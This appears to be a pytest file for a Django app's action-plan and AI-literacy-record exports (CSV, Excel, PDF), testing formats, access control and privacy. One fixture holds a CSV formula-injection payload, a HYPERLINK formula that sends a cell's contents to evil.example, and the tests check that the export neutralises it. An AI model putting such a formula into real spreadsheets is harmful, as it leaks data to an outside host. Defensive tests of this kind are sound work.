"""The charter's APV action plan (CSV, Excel) and the organisation's
AI-literacy record (PDF, CSV): what they hold, what they never hold, and who
may download them."""

from __future__ import annotations

import csv
import datetime
import io
import re

import pytest
from django.core.management import call_command
from django.template.defaultfilters import yesno
from django.urls import reverse
from django.utils import timezone, translation
from django.utils.translation import ngettext, pgettext

from agreements.evidence import (
    CHARTERS_SHOWN,
    WORKSHOPS_SHOWN,
    evidence_csv,
    organisation_evidence,
    render_evidence_pdf,
    shown_count,
)
from agreements.exports import action_plan_csv, action_plan_xlsx
from agreements.models import Action, ActionStatus, ReviewPlan
from principles.render import filename_slug
from tests.conftest import add_entry, client_for, make_user, make_workshop
from tests.test_charter_pdf import (  # noqa: F401 - no_fetching and weasyprint are fixtures
    add_principle,
    no_fetching,
    pdf_pages,
    publish,
    squeeze,
    weasyprint,
)
from workshops.models import Organisation, Participant, Phase, Role, Workshop

NAMES = ["Karen Hemmeligsen", "Jens Diskretesen"]
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Klik")'
HEADERS = 9


def people(workshop: Workshop, count: int, *, names=()) -> list[Participant]:
    names = list(names) + [""] * count
    return [
        Participant.objects.create(workshop=workshop, display_name=names[n], profession="Læge")
        for n in range(count)
    ]


def published(organisation, user, *, language="en", title="Workshop", participants=3):
    """A workshop in the charter phase with `participants` phones (two named)
    and version 1 of its charter with two principles."""
    workshop = make_workshop(
        organisation, user, language=language, title=title, teams=["Akut", "Medicin"]
    )
    phones = people(workshop, participants, names=NAMES)
    first = add_principle(
        workshop, [add_entry(phones[0], "Punkt om tid", question=1)], title="Tid til læring"
    )
    second = add_principle(
        workshop, [add_entry(phones[1], "Punkt om tillid", question=5)], title="Tillid: æøå"
    )
    workshop.phase = Phase.CHARTER
    workshop.save()
    version = publish(workshop, user, appendix=False)
    return workshop, version, [first, second]


def act(home: Workshop, principle, text: str, **kwargs) -> Action:
    return Action.objects.create(
        charter=home,
        principle_key=principle.pk,
        principle_title=principle.title,
        text=text,
        owner_role=kwargs.pop("owner_role", "Afdelingsleder"),
        **kwargs,
    )


@pytest.fixture
def representative(organisation):
    return make_user("amr@example.dk", organisation, Role.REPRESENTATIVE)


@pytest.fixture
def plan(organisation, owner):
    """A Danish charter with three actions: one overdue, one done past its
    date, one without a date; the second principle's action first in time."""
    workshop, version, (first, second) = published(organisation, owner, language="da")
    today = timezone.localdate()
    actions = [
        act(
            workshop,
            second,
            "Oplæring i AI for alle: æøå",
            owner_name="Mette Leder",
            due=today - datetime.timedelta(days=3),
            answers="APV 2026, punkt 4",
        ),
        act(
            workshop,
            first,
            FORMULA,
            owner_role="AMR",
            due=today - datetime.timedelta(days=10),
            status=ActionStatus.DONE,
            status_note="Holdt på personalemødet",
        ),
        act(workshop, first, "Fast punkt på teammødet", status=ActionStatus.IN_PROGRESS),
    ]
    return workshop, version, actions


def read_csv(content: bytes, delimiter: str) -> list[list[str]]:
    assert content.startswith(b"\xef\xbb\xbf")  # Excel's sign that the file is UTF-8
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=delimiter))


# The action plan --------------------------------------------------------------------


def test_action_plan_csv_of_a_danish_charter_is_semicolon_separated(plan):
    workshop, _version, actions = plan

    filename, content_type, content = action_plan_csv(workshop)

    with translation.override("da"):
        kind = filename_slug(pgettext("file name", "apv-action-plan"))
        yes, no = yesno(True), yesno(False)
    assert filename == f"{kind}-sygehus-oest.csv"
    assert content_type.startswith("text/csv")
    header, *rows = read_csv(content, ";")
    assert len(header) == HEADERS
    assert all(len(row) == HEADERS for row in rows)
    # In the charter's order of principles, then by date.
    assert [row[1] for row in rows] == [
        "'" + FORMULA,  # a formula stays text
        "Fast punkt på teammødet",
        "Oplæring i AI for alle: æøå",
    ]
    done, undated, overdue = rows
    assert overdue[0] == "Tillid: æøå"
    assert overdue[2:5] == ["Afdelingsleder", "Mette Leder", actions[0].due.isoformat()]
    assert overdue[7] == "APV 2026, punkt 4"
    assert overdue[8] == yes
    # Done is never overdue; no date, nothing overdue.
    assert done[6] == "Holdt på personalemødet"
    assert done[8] == no
    assert undated[4] == ""
    assert undated[8] == no


def test_action_plan_xlsx_reads_back(organisation, owner):
    from openpyxl import load_workbook

    workshop, _version, (first, _second) = published(organisation, owner)
    due = datetime.date(2027, 3, 1)
    act(workshop, first, "Train everyone", owner_name="Mette Leder", due=due)

    filename, _type, content = action_plan_xlsx(workshop)

    assert filename == "apv-action-plan-sygehus-oest.xlsx"
    sheet = load_workbook(io.BytesIO(content)).active
    assert sheet.title == "APV action plan"
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0] == (
        "Principle",
        "Action",
        "Owner (role)",
        "Owner (name)",
        "Due",
        "Status",
        "Note on the status",
        "Answers (decision or APV item)",
        "Overdue",
    )
    assert rows[1][:4] == ("Tid til læring", "Train everyone", "Afdelingsleder", "Mette Leder")
    assert rows[1][4].date() == due
    assert rows[1][5:] == ("Open", None, None, "no")


def test_action_plan_english_csv_uses_commas(organisation, owner):
    workshop, _version, (first, _second) = published(organisation, owner)
    act(workshop, first, "Train everyone; twice")

    filename, _type, content = action_plan_csv(workshop)

    assert filename == "apv-action-plan-sygehus-oest.csv"
    header, row = read_csv(content, ",")
    assert header[0] == "Principle"
    assert row[1] == "Train everyone; twice"


def export_url(workshop: Workshop, name: str = "action-plan.csv") -> str:
    return reverse("agreements:actions_export", args=[workshop.pk, name])


@pytest.mark.parametrize("role", ["owner", "facilitator", "manager", "representative"])
def test_every_member_downloads_the_action_plan(request, plan, role):
    workshop, _version, _actions = plan

    response = client_for(request.getfixturevalue(role)).get(export_url(workshop))

    assert response.status_code == 200
    assert "attachment" in response["Content-Disposition"]
    assert "no-store" in response["Cache-Control"]
    assert "Oplæring i AI for alle" in b"".join(response.streaming_content).decode("utf-8-sig")


def test_action_plan_of_another_organisation_is_404(plan, outsider_client):
    workshop, _version, _actions = plan

    assert outsider_client.get(export_url(workshop)).status_code == 404
    assert outsider_client.get(export_url(workshop, "action-plan.xlsx")).status_code == 404


def test_action_plan_needs_log_in(plan):
    workshop, _version, _actions = plan
    url = export_url(workshop)

    response = client_for().get(url)

    assert response.status_code == 302
    assert response["Location"] == f"{reverse('login')}?next={url}"


def test_unknown_export_name_is_404(plan, owner_client):
    workshop, _version, _actions = plan

    assert owner_client.get(export_url(workshop, "action-plan.json")).status_code == 404
    assert owner_client.post(export_url(workshop)).status_code == 405


def test_follow_up_workshop_exports_its_charters_actions(plan, owner, manager_client):
    home, _version, _actions = plan
    follow_up = make_workshop(home.organisation, owner, title="Opfølgning", language="da")
    follow_up.follows = home
    follow_up.save()
    Action.objects.create(
        charter=follow_up, principle_key=1, principle_title="X", text="Not the charter's"
    )

    response = manager_client.get(export_url(follow_up))

    assert response.status_code == 200
    _header, *rows = read_csv(b"".join(response.streaming_content), ";")
    assert len(rows) == 3
    assert "Oplæring i AI for alle: æøå" in [row[1] for row in rows]
    assert "Not the charter's" not in [row[1] for row in rows]


# The AI-literacy record -------------------------------------------------------------


@pytest.fixture
def record(organisation, owner, other_organisation, outsider):
    """Three held workshops (4, 5 and 12 phones; one on machine learning),
    a draft that never opened, two charters (one with a review plan), and
    another organisation's workshop."""
    four, version, principles = published(
        organisation, owner, title="Four in the room", participants=4
    )
    ReviewPlan.objects.create(
        charter=four, next_review=datetime.date(2027, 11, 21), at_annual_discussion=True
    )
    five = make_workshop(organisation, owner, title="Five in the room", teams=["Jura"])
    people(five, 5)
    twelve, _version, _principles = published(
        organisation, owner, title="Twelve in the room", participants=12
    )
    twelve.ai_focus = "ml"
    twelve.save()
    make_workshop(organisation, owner, title="Never opened", phase=Phase.DRAFT)
    other = make_workshop(other_organisation, outsider, title="Someone else's workshop")
    people(other, 7, names=["Ole Fremmed"])
    return {"four": four, "five": five, "twelve": twelve, "principles": principles}


def test_shown_count():
    assert [shown_count(n) for n in (0, 1, 4, 5, 6, 120)] == ["<5", "<5", "<5", "5", "6", "120"]


def test_evidence_csv_lists_workshops_topics_and_charters(organisation, record):
    filename, _type, content = evidence_csv(organisation, language="en")

    assert filename == "ai-literacy-sygehus-oest.csv"
    header, *rows = read_csv(content, ",")
    assert header[:5] == ["Section", "Date", "Title", "Teams", "Participants"]
    workshops = {row[2]: row for row in rows if row[0] == "Workshop"}
    assert set(workshops) == {"Four in the room", "Five in the room", "Twelve in the room"}
    assert workshops["Four in the room"][1] == "2026-11-21"
    assert workshops["Four in the room"][3] == "Akut; Medicin"
    assert [
        workshops[t][4] for t in ("Four in the room", "Five in the room", "Twelve in the room")
    ] == ["<5", "5", "12"]
    questions = [row[2] for row in rows if row[0] == "Worksheet question"]
    assert questions[0] == "What value is added?"
    assert len(questions) == 5
    cards = [row for row in rows if row[0].startswith("Inspiration card")]
    kinds = {row[6] for row in cards}
    assert kinds == {"Generative AI", "Machine learning"}
    assert {row[5] for row in cards} <= {
        "Individual",
        "Group",
        "Leadership",
        "Organisation",
        "Surrounding context",
    }
    # Two workshops on generative AI showed its cards, one the machine-learning ones.
    assert {row[7] for row in cards if row[6] == "Generative AI"} == {"2"}
    assert {row[7] for row in cards if row[6] == "Machine learning"} == {"1"}
    charters = [row for row in rows if row[0] == "Published charter"]
    assert len(charters) == 2
    reviews = sorted(row[9] for row in charters)
    assert reviews == ["2027-11-21 (at the annual work-environment discussion)", "not set"]
    assert {row[8] for row in charters} == {"1"}
    # Each charter row names its workshop: a series' charters share a title.
    assert header[10] == "Workshop"
    assert sorted(row[10] for row in charters) == ["Four in the room", "Twelve in the room"]


def test_evidence_csv_in_danish_uses_semicolons(organisation, record):
    filename, _type, content = evidence_csv(organisation, language="da")

    with translation.override("da"):
        kind = filename_slug(pgettext("file name", "ai-literacy"))
    assert filename == f"{kind}-sygehus-oest.csv"
    header, *rows = read_csv(content, ";")
    assert len(header) == 11
    assert all(len(row) == 11 for row in rows)
    assert {"<5", "5", "12"} <= {row[4] for row in rows}


@pytest.mark.usefixtures("no_fetching")
def test_evidence_pdf_is_one_page_and_never_shows_a_small_count(organisation, record):
    filename, content_type, content = render_evidence_pdf(organisation, language="en")

    assert filename == "ai-literacy-sygehus-oest.pdf"
    assert content_type == "application/pdf"
    pages = pdf_pages(content)
    assert len(pages) == 1
    text = squeeze(pages[0])
    assert "Ourworkonailiteracy" in text.replace("AI", "ai")
    # The participant counts stand at the end of each workshop's row.
    assert "FourintheroomAkut,Medicin<5" in text
    # The next row starts with its date.
    assert re.search(r"FiveintheroomJura5\d\d/\d\d/\d{4}Twelve", text)
    assert "TwelveintheroomAkut,Medicin12" in text
    assert "Whichfundamentalvaluesareimportanttokeepinthework?" in text
    assert "Notlegaladvice" in text
    assert "2026/1744" in text
    assert "notset" in text


@pytest.mark.usefixtures("no_fetching")
def test_evidence_pdf_in_danish(organisation, record):
    filename, _type, content = render_evidence_pdf(organisation, language="da")

    text = squeeze(" ".join(pdf_pages(content)))
    assert "Hvilkenværditilføres?" in text
    assert "Omkringliggendekontekst" in text or "Individ" in text


@pytest.mark.usefixtures("no_fetching")
def test_no_export_holds_a_participants_name_or_an_e_mail(organisation, record):
    four = record["four"]
    act(four, record["principles"][0], "Train everyone", owner_name="Mette Leder")
    files = [
        action_plan_csv(four)[2].decode("utf-8-sig"),
        evidence_csv(organisation, language="en")[2].decode("utf-8-sig"),
        evidence_csv(organisation, language="da")[2].decode("utf-8-sig"),
        " ".join(pdf_pages(render_evidence_pdf(organisation, language="en")[2])),
    ]
    from openpyxl import load_workbook

    sheet = load_workbook(io.BytesIO(action_plan_xlsx(four)[2])).active
    files.append(" ".join(str(v) for row in sheet.iter_rows(values_only=True) for v in row))

    for text in files:
        for name in [*NAMES, "Ole Fremmed", "Someone else", "Never opened"]:
            assert name not in text
        assert "@" not in text
        assert "example.dk" not in text


def evidence_url(organisation, name="evidence.pdf") -> str:
    return reverse("org:ai_literacy", args=[organisation.pk, name])


@pytest.mark.usefixtures("weasyprint")
@pytest.mark.parametrize("role", ["owner", "facilitator", "manager", "representative"])
def test_every_member_downloads_the_record(request, organisation, record, role):
    client = client_for(request.getfixturevalue(role))

    pdf = client.get(evidence_url(organisation))
    table = client.get(evidence_url(organisation, "evidence.csv"))

    assert pdf.status_code == 200
    assert pdf["Content-Type"] == "application/pdf"
    assert b"".join(pdf.streaming_content).startswith(b"%PDF")
    assert table.status_code == 200
    assert "Four in the room" in b"".join(table.streaming_content).decode("utf-8-sig")


def test_record_of_another_organisation_is_404(organisation, record, outsider_client):
    assert outsider_client.get(evidence_url(organisation)).status_code == 404
    assert outsider_client.get(evidence_url(organisation, "evidence.csv")).status_code == 404


def test_record_needs_log_in(organisation):
    url = evidence_url(organisation)

    response = client_for().get(url)

    assert response.status_code == 302
    assert response["Location"] == f"{reverse('login')}?next={url}"


def test_record_unknown_name_is_404(organisation, owner_client):
    assert owner_client.get(evidence_url(organisation, "evidence.xlsx")).status_code == 404


def test_organisation_page_links_the_record(organisation, manager_client):
    response = manager_client.get(reverse("org:detail", args=[organisation.pk]))

    page = response.content.decode()
    assert evidence_url(organisation) in page
    assert evidence_url(organisation, "evidence.csv") in page
    assert "Not legal advice" in page


@pytest.mark.django_db
@pytest.mark.usefixtures("no_fetching")
@pytest.mark.parametrize("language", ["da", "en"])
def test_the_demo_organisations_record_is_one_page(language):
    """The demo organisation (a workshop, its follow-up life and a series of
    three) is a realistic case: four workshops, five charters sharing one
    title, more cards than a cell can list."""
    for command in ("demo_workshop", "demo_after_workshop", "demo_series"):
        call_command(command, stdout=io.StringIO())
    organisation = Organisation.objects.get()
    evidence = organisation_evidence(organisation)
    assert len(evidence.charters) == 5
    assert len({c.title for c in evidence.charters}) < len(evidence.charters)
    assert any(group.cards_more for group in evidence.card_groups)

    _name, _type, content = render_evidence_pdf(organisation, language=language)

    pages = pdf_pages(content)
    assert len(pages) == 1
    text = squeeze(pages[0])
    # Rows told apart by their workshop, capped cells say how many more.
    for charter in evidence.charters_shown:
        assert squeeze(charter.workshop) in text, charter.workshop
    with translation.override(language):
        more = squeeze(
            ngettext(
                "and %(n)s more (in the CSV file)", "and %(n)s more (in the CSV file)", 2
            ).split("%")[0]
        )
    assert more in text


@pytest.mark.django_db
@pytest.mark.usefixtures("no_fetching")
def test_the_record_stays_one_page_past_every_cap():
    """More workshops and charters than the record lists, with long names:
    the caps hold it to one page whatever the organisation has done."""
    from principles.services import charter_publish, principle_merge

    for command in ("demo_workshop", "demo_after_workshop", "demo_series"):
        call_command(command, stdout=io.StringIO())
    organisation = Organisation.objects.get()
    owner = organisation.memberships.filter(role=Role.OWNER).first().user
    for i in range(WORKSHOPS_SHOWN + 3):
        workshop = make_workshop(
            organisation,
            owner,
            title=f"Workshop om kunstig intelligens i hverdagen for afdeling nummer {i}",
            teams=["Akutmodtagelsen og skadestuen", "Medicinsk afdeling, sengeafsnit"],
            ai_focus="both",
        )
        people = [Participant.objects.create(workshop=workshop) for _ in range(6)]
        cards = [add_entry(p, f"Mere tid til borgeren {i}") for p in people]
        if i < CHARTERS_SHOWN + 2:
            principle_merge(workshop=workshop, entry_ids=[c.pk for c in cards])
            charter_publish(workshop=workshop, user=owner, notify=False)
    evidence = organisation_evidence(organisation)
    assert evidence.workshops_more and evidence.charters_more

    for language in ("da", "en"):
        pages = pdf_pages(render_evidence_pdf(organisation, language=language)[2])
        assert len(pages) == 1, language
